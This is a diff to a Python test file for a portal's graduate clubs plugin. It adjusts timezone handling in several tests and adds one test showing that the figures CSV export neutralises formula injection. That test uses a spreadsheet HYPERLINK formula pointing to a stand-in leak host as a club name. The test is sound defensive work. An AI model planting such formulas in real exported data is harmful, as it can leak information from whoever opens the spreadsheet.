@@ -1,6 +1,8 @@
 """Graduate clubs: browse, join, register, wait, cancel, organize, mark who came, figures."""
 from __future__ import annotations
 
+import csv
+import io
 from datetime import timedelta
 
 from babel.dates import format_date
@@ -11,6 +13,7 @@ from plugins.graduate_clubs import clubs as rules
 from plugins.graduate_clubs.models import Club, Event, Member, Registration, RegistrationStatus
 from portal.app.extensions import db
 from portal.models import AuditEvent, ClaimedSlot, Notification
+from portal.kit import to_local
 from portal.models._time import utcnow
 from tests.helpers import form_errors, make_user
 from tests.plugins.graduate_clubs.conftest import add_event
@@ -232,7 +235,7 @@ def test_more_places_move_the_waiting_list_in_fewer_are_refused(app, people, reg
     db.session.commit()
     specialist = app.test_client().login_as(people["specialist"])
     fields = {"title": event.title, "starts_at": "", "ends_at": "", "place": event.place}
-    local = rules.to_local(event.starts_at, "Europe/Moscow")
+    local = to_local(event.starts_at, event.club.region)
     fields.update(starts_at=local.strftime("%Y-%m-%dT%H:%M"),
                   ends_at=(local + timedelta(hours=2)).strftime("%Y-%m-%dT%H:%M"))
     assert specialist.post(f"{BASE}/events/{event.id}/edit", data={**fields, "capacity": "2"}).status_code == 302
@@ -273,7 +276,7 @@ def test_organizer_marks_who_came_graduate_sees_it_coordinator_counts(app, peopl
     assert "Встречи, на которых я был(а)" in mine and "Киновечер" in mine and "вы были на его встречах" in mine
 
     coordinator = app.test_client().login_as(people["coordinator"])
-    local = rules.to_local(event.starts_at, "Europe/Moscow")
+    local = to_local(event.starts_at, event.club.region)
     page = coordinator.get(f"{BASE}/stats?year={local.year}").get_data(as_text=True)
     assert "Клуб «Ориентир»" in page and "<svg" in page
     csv_text = coordinator.get(f"{BASE}/stats.csv?year={local.year}").get_data(as_text=True)
@@ -324,8 +327,8 @@ def test_export_and_erasure_give_the_seat_to_the_waiting_list(app, people, regio
     db.session.commit()
     assert _registration(event, leaving) is None
     note = db.session.scalar(select(Notification).where(Notification.user_id == waiting.id))
-    local = rules.to_local(event.starts_at, "Europe/Moscow")
-    assert note.message.endswith(f"{local.day} {format_date(local, 'MMMM', locale='ru')}, {local:%H:%M}.")
+    local = to_local(event.starts_at, event.club.region)
+    assert note.message.endswith(f"{local.day} {format_date(local, 'MMMM', locale='ru')} {local.year}, {local:%H:%M}.")
     assert _registration(event, waiting).status == RegistrationStatus.registered
     assert db.session.scalar(select(func.count(Member.id)).where(Member.user_id == leaving.id)) == 0
     assert _seats(event) == 1
@@ -345,3 +348,15 @@ def test_erasure_moves_the_waiting_in_with_the_same_trace_as_a_cancellation(app,
     trace = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "graduate_clubs.registration.promoted"))
     assert trace is not None and trace.subject_id == waiting.id and trace.target == f"registration:{moved_in.id}"
     assert trace.region_id == regions["belgorod"].id
+
+
+def test_a_club_named_like_a_formula_is_plain_text_in_the_figures_csv(app, people, regions):
+    """A spreadsheet would run ``=HYPERLINK(...)`` on opening: the cell is given a leading quote mark."""
+    formula = '=HYPERLINK("http://evil.example/?leak","Открыть")'
+    rules.add_club(regions["belgorod"], formula)
+    db.session.commit()
+    coordinator = app.test_client().login_as(people["coordinator"])
+    answer = coordinator.get(f"{BASE}/stats.csv")
+    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
+    assert answer.mimetype == "text/csv" and rows[0][0] == "Клуб"
+    assert {row[0] for row in rows[1:]} == {"'" + formula}
